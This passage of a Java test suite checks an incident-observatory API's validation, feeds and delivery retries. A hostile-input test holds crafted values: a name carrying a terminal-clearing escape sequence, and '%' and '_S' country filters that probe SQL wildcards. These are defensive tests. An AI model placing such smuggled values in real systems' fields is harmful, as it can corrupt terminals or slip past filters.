    for (JsonNode x : queue) queued |= x.get("id").asLong() == rec;
    assertTrue(queued, queue.toString());
    assertFalse(get("/api/incidents/export.csv").body().contains("EDITED AFTER ACCEPTANCE"), "not published until an editor looks again");
    // nor under its incident or in search until the next clustering run (outside QA, 2026-12-07: it was, for a minute)
    HttpResponse<String> records = get("/api/incidents/" + incident + "/records");
    assertFalse(records.body().contains("EDITED AFTER ACCEPTANCE"), records.body());
    assertEquals(0, Json.read(get("/api/incidents?q=EDITED%20AFTER%20ACCEPTANCE").body()).get("total").asLong());
    String note = (String) db.read(c -> org.aigov.observatory.kernel.Sql.value(c, "SELECT note FROM incident_reviews WHERE record_id = ?", rec));
    assertEquals("changed by its sender after it was accepted", note);
  }

  private String status(long rec) {
    return (String) db.read(c -> org.aigov.observatory.kernel.Sql.value(c, "SELECT review_status FROM incident_records WHERE id = ?", rec));
  }

  /** Found by a hostile-input review (2026-12-02): each of these was a 500, a silent change or a misleading answer. */
  @Test
  void hostileInputIsRefusedByName() throws Exception {
    // the same report sent ten times at once: one is stored, the rest are duplicates, none a 500
    List<java.util.concurrent.CompletableFuture<HttpResponse<String>>> race = new java.util.ArrayList<>();
    for (int k = 0; k < 10; k++) {
      race.add(http.sendAsync(HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports")).header("Authorization", "Bearer analyst")
          .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{\"title\":\"r" + k + "\",\"url\":\"https://race.example/u9\"}")).build(),
          HttpResponse.BodyHandlers.ofString()));
    }
    int inserted = 0;
    for (var f : race) {
      HttpResponse<String> r = f.get();
      assertTrue(r.statusCode() == 201 || r.statusCode() == 200, r.statusCode() + " " + r.body());
      if (r.statusCode() == 201) inserted++;
    }
    assertEquals(1, inserted);
    // query dates: the chart's calendar starts in 1900, a far year overflowed the day count, a range may not end before it starts
    for (String q : List.of("/api/incidents/trends/chart.svg?granularity=day&from=1899-12-31", "/api/incidents/trends?granularity=year&from=%2B999999999-01-01T00:00Z",
        "/api/incidents?from=%2B300000000-01-01T00:00:00Z", "/api/incidents/trends?granularity=day&from=0001-01-01")) {
      HttpResponse<String> r = get(q);
      assertEquals(400, r.statusCode(), q + " " + r.body());
      assertEquals("from", Json.read(r.body()).get("field").asText(), q);
    }
    HttpResponse<String> backwards = get("/api/incidents/trends?granularity=month&from=2025-01-01&to=2024-01-01");
    assertEquals(400, backwards.statusCode());
    assertTrue(backwards.body().contains("from 2025-01-01 is after to 2024-01-01"), backwards.body());
    assertEquals(400, get("/api/incidents?from=2025-01-01&to=2024-01-01").statusCode());
    // a field of the wrong JSON type is a 400 naming it, not its text ("Infinity", "true") or silently nothing
    Map<String, String[]> wrong = new java.util.LinkedHashMap<>();
    wrong.put("/api/incidents/reports", new String[] {"{\"title\":1e400,\"url\":\"https://t.example/1\"}", "title", "a number"});
    wrong.put("/api/incidents/reports ", new String[] {"{\"title\":\"x\",\"text\":true}", "text", "true or false"});
    wrong.put("/api/incidents/subscriptions", new String[] {"{\"name\":\"s\",\"series\":[\"topic=military\"]}", "series", "an array"});
    wrong.put("/api/incidents/subscriptions ", new String[] {"{\"name\":123}", "name", "a number"});
    wrong.put("/api/incidents/topics", new String[] {"{\"id\":123,\"name_en\":\"x\",\"terms_en\":[\"x\"]}", "id", "a number"});
    wrong.put("/api/incidents/topics ", new String[] {"{\"id\":\"t9\",\"name_en\":{\"a\":1},\"terms_en\":[\"x\"]}", "name_en", "an object"});
    wrong.put("/api/incidents/feeds", new String[] {"{\"url\":[\"https://feeds.example.org/x\"]}", "url", "an array"});
    for (var e : wrong.entrySet()) {
      HttpResponse<String> r = post(e.getKey().strip(), e.getKey().contains("feeds") ? "editor" : "analyst", e.getValue()[0]);
      assertEquals(400, r.statusCode(), e.getValue()[0] + " " + r.body());
      JsonNode p = Json.read(r.body());
      assertEquals(e.getValue()[1], p.get("field").asText(), r.body());
      assertTrue(p.get("detail").asText().endsWith("expected a string, found " + e.getValue()[2]), r.body());
    }
    HttpResponse<String> review = post("/api/incidents/reports/1/review", "editor", "{\"decision\":[\"accept\"]}");
    assertEquals("decision", Json.read(review.body()).get("field").asText(), review.body());
    HttpResponse<String> every = post("/api/incidents/feeds", "editor", "{\"url\":\"https://feeds.example.org/x\",\"interval_seconds\":900.9}");
    assertEquals(400, every.statusCode(), every.body());
    assertEquals("interval_seconds", Json.read(every.body()).get("field").asText());
    // a report's fields the store would have cut short, and the date field named as sent
    HttpResponse<String> lang = post("/api/incidents/reports", "analyst", "{\"title\":\"x\",\"language\":\"" + "L".repeat(500) + "\"}");
    assertEquals("language", Json.read(lang.body()).get("field").asText(), lang.body());
    HttpResponse<String> outlet = post("/api/incidents/reports", "analyst", "{\"title\":\"x\",\"outlet\":\"" + "o".repeat(5000) + "\"}");
    assertEquals("outlet", Json.read(outlet.body()).get("field").asText(), outlet.body());
    HttpResponse<String> date = post("/api/incidents/reports", "analyst", "{\"title\":\"x\",\"date\":\"2024-02-30\"}");
    assertEquals("date", Json.read(date.body()).get("field").asText(), date.body());
    // subscriptions: a port no connection can use, a facet given twice, a bad granularity named as the series, a control character
    HttpResponse<String> port = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"s\",\"webhook_url\":\"https://hooks.example.org:99999/x\"}");
    assertEquals(400, port.statusCode(), port.body());
    assertTrue(port.body().contains("port 99999 is out of range"), port.body());
    HttpResponse<String> twice = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"s\",\"series\":\"topic=military;topic=t1\"}");
    assertTrue(twice.statusCode() == 400 && twice.body().contains("facet 'topic' is given twice"), twice.body());
    HttpResponse<String> gran = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"s\",\"series\":\"granularity=bogus\"}");
    assertEquals("series", Json.read(gran.body()).get("field").asText(), gran.body());
    assertTrue(Json.read(gran.body()).get("detail").asText().startsWith("series: granularity: expected one of"), gran.body());
    HttpResponse<String> ctl = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"ctl \\u0007\\u001b[2J\"}");
    assertEquals(400, ctl.statusCode(), ctl.body());
    assertEquals("name", Json.read(ctl.body()).get("field").asText());
    // the token before the id: an anonymous caller learns nothing of which deliveries exist
    assertEquals(401, post("/api/incidents/deliveries/999999/retry", null, "").statusCode());
    // GET on a POST-only path is a 405 that says so, not "incident reports not found"
    HttpResponse<String> getReports = get("/api/incidents/reports");
    assertEquals(405, getReports.statusCode(), getReports.body());
    assertEquals("POST", getReports.headers().firstValue("Allow").orElse(""));
    assertEquals(200, get("/api/incidents/1").statusCode(), "an incident by id still reads");
  }

  /** A country filter that names no country is a 400 naming country, as a misspelt topic is; a real country with no incidents counts zeros. */
  @Test
  void aCountryFilterThatIsNoCountryIsA400() throws Exception {
    for (String path : List.of("/api/incidents/trends?granularity=year&country=XX", "/api/incidents/trends?country=ZZ&format=csv",
        "/api/incidents/trends/chart.svg?country=xx", "/api/incidents?country=ZZ", "/api/incidents?q=robot&country=USA",
        "/api/incidents/records.atom?country=_S", "/api/incidents?country=%25")) {
      HttpResponse<String> r = get(path);
      assertEquals(400, r.statusCode(), path + " -> " + r.body());
      assertEquals("country", Json.read(r.body()).path("field").asText(), r.body());
      assertTrue(Json.read(r.body()).path("detail").asText().contains("ISO 3166 alpha-2"), r.body());
    }
    // Antarctica: a country, so zeros as before, not an error
    HttpResponse<String> aq = get("/api/incidents/trends?granularity=year&country=AQ");
    assertEquals(200, aq.statusCode(), aq.body());
    for (JsonNode n : Json.read(aq.body()).get("series").get(0).get("counts")) assertEquals(0, n.asInt(), aq.body());
    assertEquals(0, Json.read(get("/api/incidents?country=aq").body()).get("total").asInt());
    // every code the data holds, in either case, and every one ingest can store (the gazetteer's), is accepted
    List<String> inData = Trends.facets(db).get("country");
    assertFalse(inData.isEmpty());
    for (String c : inData) {
      assertEquals(200, get("/api/incidents/trends?granularity=year&country=" + c).statusCode(), c);
      assertTrue(Json.read(get("/api/incidents?country=" + c.toLowerCase(java.util.Locale.ROOT)).body()).get("total").asInt() > 0, c);
    }
    for (String c : Gazetteer.get().names.keySet()) FacetLabels.requireCountry(db, c, "country");
    // a code the stored records use but no list knows (Kosovo's user-assigned XK, as some sources write it) is kept
    assertEquals(400, get("/api/incidents?country=XK").statusCode());
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_records SET countries = 'RS; XK' WHERE id = (SELECT MIN(id) FROM incident_records)"));
    assertEquals(200, get("/api/incidents?country=XK").statusCode());
  }

  /** Review of 2026-12-04: a misspelt facet value or parameter was answered as if valid (zeros, or every incident). */
  @Test
  void misspeltFiltersAndParametersAreRefusedByName() throws Exception {
    String[][] cases = {{"/api/incidents/trends?granularity=year&risk_layer=foo", "risk_layer"}, {"/api/incidents?risk_layer=intrinsic", "risk_layer"},
        {"/api/incidents/trends?granularity=year&risk_domain=9", "risk_domain"}, {"/api/incidents?risk_domain=AI%20safety", "risk_domain"},
        {"/api/incidents/trends?granularity=year&topc=military", "topc"}, {"/api/incidents?topc=military", "topc"},
        {"/api/incidents/trends/chart.svg?topc=military", "topc"}, {"/api/incidents/trends?granularity=year&granularity=day", "granularity"},
        {"/api/incidents?topic=military&topic=t1", "topic"}};
    for (String[] c : cases) {
      HttpResponse<String> r = get(c[0]);
      assertEquals(400, r.statusCode(), c[0] + " -> " + r.body());
      assertEquals(c[1], Json.read(r.body()).path("field").asText(), c[0] + " -> " + r.body());
    }
    // a risk domain by its number means the same in the list and in trends as by its label (trends had counted 0 for "7")
    String label = Trends.facets(db).get("risk_domain").get(0);
    String number = label.substring(0, label.indexOf('.'));
    String enc = java.net.URLEncoder.encode(label, java.nio.charset.StandardCharsets.UTF_8);
    long byNumber = Json.read(get("/api/incidents?risk_domain=" + number).body()).get("total").asLong();
    assertTrue(byNumber > 0, label);
    assertEquals(byNumber, Json.read(get("/api/incidents?risk_domain=" + enc).body()).get("total").asLong());
    long trendByNumber = 0, trendByLabel = 0;
    for (JsonNode n : Json.read(get("/api/incidents/trends?granularity=year&risk_domain=" + number).body()).get("series").get(0).get("counts")) trendByNumber += n.asLong();
    for (JsonNode n : Json.read(get("/api/incidents/trends?granularity=year&risk_domain=" + enc).body()).get("series").get(0).get("counts")) trendByLabel += n.asLong();
    assertTrue(trendByNumber > 0, "trends by number count the domain's incidents");
    assertEquals(trendByLabel, trendByNumber);
    // a subscription: a layer that does not exist is refused; a sector may wait for its first incident
    HttpResponse<String> layer = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"l\",\"series\":\"granularity=month;risk_layer=foo\"}");
    assertEquals(400, layer.statusCode(), layer.body());
    assertEquals("series", Json.read(layer.body()).path("field").asText());
    assertEquals(201, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"s\",\"series\":\"granularity=month;sector=Space mining\"}").statusCode());
  }

  /**
   * An Atom feed holds a page of 50 alerts and links the next (RFC 5005): a reader away while more were raised had lost
   * the rest; a p below double precision's reach reads "p < 1e-15", not "p = 0.00" (an outside QA pass).
   */
  @Test
  void atomFeedsArePagedAndTinyProbabilitiesSaySo() throws Exception {
    for (int i = 0; i < 60; i++) {
      String period = String.format("20%02d-%02d", 10 + i / 12, 1 + i % 12);
      db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "INSERT INTO incident_alerts (series_key, granularity, period, count_value, baseline, probability, method, explanation, created_at)"
          + " VALUES ('granularity=month;topic=military', 'month', ?, 9, 1.0, 0.0, 'poisson', '{\"en\":\"e\",\"zh\":\"z\"}', CURRENT_TIMESTAMP)", period));
    }
    java.util.Set<String> ids = new java.util.LinkedHashSet<>();
    String url = "/api/incidents/feed.atom?series=granularity%3Dmonth%3Btopic%3Dmilitary";
    int pages = 0;
    while (url != null && pages++ < 5) {
      HttpResponse<String> r = get(url);
      assertEquals(200, r.statusCode(), r.body());
      java.util.regex.Matcher m = java.util.regex.Pattern.compile("incident-alert:(\\d+)</id>").matcher(r.body());
      int onPage = 0;
      while (m.find()) {
        assertTrue(ids.add(m.group(1)), "no alert on two pages: " + m.group(1));
        onPage++;
      }
      assertTrue(onPage <= 50, r.body());
      assertTrue(r.body().contains("p &lt; 1e-15") && !r.body().contains("p = 0.00"), r.body()); // "p < 1e-15", escaped
      java.util.regex.Matcher next = java.util.regex.Pattern.compile("<link rel=\"next\" href=\"[^\"]*(/api/incidents/feed\\.atom\\?[^\"]*)\"").matcher(r.body());
      url = next.find() ? next.group(1).replace("&amp;", "&") : null;
      if (url != null) assertTrue(url.contains("series=") && url.contains("before="), url);
    }
    assertEquals(60, ids.size(), "every alert, over two pages");
    assertEquals(2, pages);
    assertEquals(400, get("/api/incidents/feed.atom?before=x").statusCode());
    assertEquals(400, get("/api/incidents/feed.atom?page=2").statusCode());
  }

  /** A delivery of a new alert that failed five times, as the scan and the deliverer would leave one; its id. */
  private long failedDelivery(long subscription, String period) {
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "INSERT INTO incident_alerts (series_key, granularity, period, count_value, baseline, probability, method, explanation, created_at)"
        + " VALUES ('granularity=month;topic=military', 'month', ?, 9, 1.0, 0.0001, 'poisson', 'x', CURRENT_TIMESTAMP)", period));
    long alert = IngestTest.count(db, "SELECT MAX(id) FROM incident_alerts");
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "INSERT INTO incident_deliveries (subscription_id, alert_id, status, attempts, next_attempt_at, created_at)"
        + " VALUES (?, ?, 'failed', 5, CURRENT_TIMESTAMP, CURRENT_TIMESTAMP)", subscription, alert));
    return IngestTest.count(db, "SELECT MAX(id) FROM incident_deliveries");
  }

  /** A delivery of a deleted subscription is not queued again: nobody is there to receive it (it answered "pending"). */
  @Test
  void aRetryOfADeletedSubscriptionsDeliveryIsRefused() throws Exception {
    HttpResponse<String> sub = post("/api/incidents/subscriptions", "analyst",
        "{\"name\":\"gone\",\"series\":\"granularity=month\",\"webhook_url\":\"https://hooks.example.org/gone\"}");
    assertEquals(201, sub.statusCode(), sub.body());
    long id = Json.read(sub.body()).get("id").asLong();
    long delivery = failedDelivery(id, "1998-01");
    long queued = failedDelivery(id, "1998-02");
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_deliveries SET status = 'pending' WHERE id = ?", queued));
    assertEquals(204, send("DELETE", "/api/incidents/subscriptions/" + id, "analyst", null).statusCode());
    // its queue goes with it: a pending delivery was listed as pending for good
    assertEquals("cancelled", IngestTest.one(db, "SELECT status FROM incident_deliveries WHERE id = " + queued));
    for (String who : List.of("analyst", "editor")) {
      HttpResponse<String> r = post("/api/incidents/deliveries/" + delivery + "/retry", who, "");
      assertEquals(409, r.statusCode(), r.body());
      assertTrue(Json.read(r.body()).get("detail").asText().contains("subscription " + id + ", which was deleted"), r.body());
    }
    assertEquals("failed", IngestTest.one(db, "SELECT status FROM incident_deliveries WHERE id = " + delivery), "nothing queued");
    assertEquals(404, post("/api/incidents/deliveries/" + delivery + "/retry", "other", "").statusCode(), "another subscriber learns nothing");
  }

  /**
   * The chart's spikes do not depend on where it starts: a range padded back before the data found the data's first
   * months spikes against a baseline of 0 that the alert scan, testing the whole history, never flagged (the rule itself:
   * TrendChartTest.periodsBeforeTheDataAreNoBaseline; this fixture is too sparse for a spike).
   */
  @Test
  void spikesDoNotDependOnWhereTheChartStarts() throws Exception {
    JsonNode whole = Json.read(get("/api/incidents/trends?granularity=month&alpha=0.5&spikes=1").body());
    JsonNode padded = Json.read(get("/api/incidents/trends?granularity=month&alpha=0.5&spikes=1&from=1990-01-01").body());
    List<String> a = new java.util.ArrayList<>(), b = new java.util.ArrayList<>();
    whole.get("spikes").forEach(x -> a.add(x.get("period").asText()));
    padded.get("spikes").forEach(x -> b.add(x.get("period").asText()));
    assertTrue(padded.get("periods").size() > whole.get("periods").size(), "the range is padded with the empty years before the data");
    assertEquals(a, b, "the same spikes, whatever the chart's start");
    assertFalse(b.contains(whole.get("periods").get(0).asText()), "the data's first month has no baseline");
    // trim_start: the periods begin at the first one with data, however early `from` is
    JsonNode trimmed = Json.read(get("/api/incidents/trends?granularity=month&from=1990-01-01&trim_start=true").body());
    assertEquals(whole.get("periods").get(0), trimmed.get("periods").get(0));
  }

  /**
   * A harm type the sources spell two ways is one option: the facets list the canonical spelling once, and a filter on
   * it finds the incidents stored with either, in the listing and in the trends.
   */
  @Test
  void spellingVariantsOfAHarmTypeAreOneOption() throws Exception {
    List<Long> ids = db.read(c -> {
      List<Long> out = new java.util.ArrayList<>();
      try (var ps = c.prepareStatement("SELECT id FROM incidents WHERE first_date IS NOT NULL ORDER BY id FETCH FIRST 2 ROWS ONLY"); var rs = ps.executeQuery()) {
        while (rs.next()) out.add(rs.getLong(1));
      }
      return out;
    });
    db.tx(c -> {
      try (var ps = c.prepareStatement("UPDATE incidents SET harm_types = ? WHERE id = ?")) {
        ps.setString(1, "Institutional trust loss");
        ps.setLong(2, ids.get(0));
        ps.executeUpdate();
        ps.setString(1, "Instutional trust loss; Institutional trust loss");
        ps.setLong(2, ids.get(1));
        ps.executeUpdate();
      }
      Trends.bump(c);
      return null;
    });
    JsonNode facets = Json.read(get("/api/incidents/facets").body()).get("harm_type");
    assertTrue(facets.toString().contains("\"Institutional trust loss\"") && !facets.toString().contains("Instutional"), facets.toString());
    for (String spelt : List.of("Institutional%20trust%20loss", "Instutional%20trust%20loss")) {
      assertEquals(2, Json.read(get("/api/incidents?harm_type=" + spelt).body()).get("total").asInt(), spelt);
      JsonNode tr = Json.read(get("/api/incidents/trends?granularity=year&harm_type=" + spelt).body());
      long sum = 0;
      for (JsonNode x : tr.get("series").get(0).get("counts")) sum += x.asLong();
      assertEquals(2, sum, "trends count both spellings, an incident with both once: " + spelt);
    }
    JsonNode labels = Json.read(get("/api/incidents/facets/labels").body()).get("harm_type");
    assertEquals("对机构的信任丧失", labels.get("Institutional trust loss").get("zh").asText());
  }
}
